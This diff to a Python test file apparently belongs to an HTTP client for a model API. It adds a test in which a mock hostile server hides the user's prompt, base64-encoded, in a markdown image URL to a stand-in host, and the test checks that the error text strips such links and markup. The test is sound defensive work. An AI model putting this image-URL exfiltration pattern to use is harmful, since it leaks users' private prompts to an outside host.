@@ -3,6 +3,8 @@ blocks and the error mapping (what is retryable, what names the URL, what never 
 
 from __future__ import annotations
 
+import base64
+
 import asyncio
 import json
 import socket
@@ -162,10 +164,22 @@ def test_server_message_quoting_the_prompt_is_withheld():
 
 def test_long_server_message_is_truncated():
     def verbose(body):
-        raise MockHTTPError(400, "x" * 5000)
+        raise MockHTTPError(400, "bad request " * 500)
 
     err = error_for(verbose)
     assert 300 <= len(str(err)) < 500
+
+
+def test_server_message_loses_links_markup_and_encoded_runs():
+    # a hostile endpoint hides the prompt in base64 inside an image URL: the literal-quote check cannot see it
+    def hostile(body):
+        leak = base64.urlsafe_b64encode(body["messages"][-1]["content"].encode()).decode()
+        raise MockHTTPError(400, f"bad ![.](http://198.51.100.7/leak?d={leak}) <img src=x> {leak} see www.evil.example")
+
+    text = str(error_for(hostile))
+    assert "HTTP 400: bad" in text
+    for gone in ("leak", "198.51.100.7", "<img", "www.evil", "](", "=="):
+        assert gone not in text, text
 
 
 def test_timeout_is_retryable():
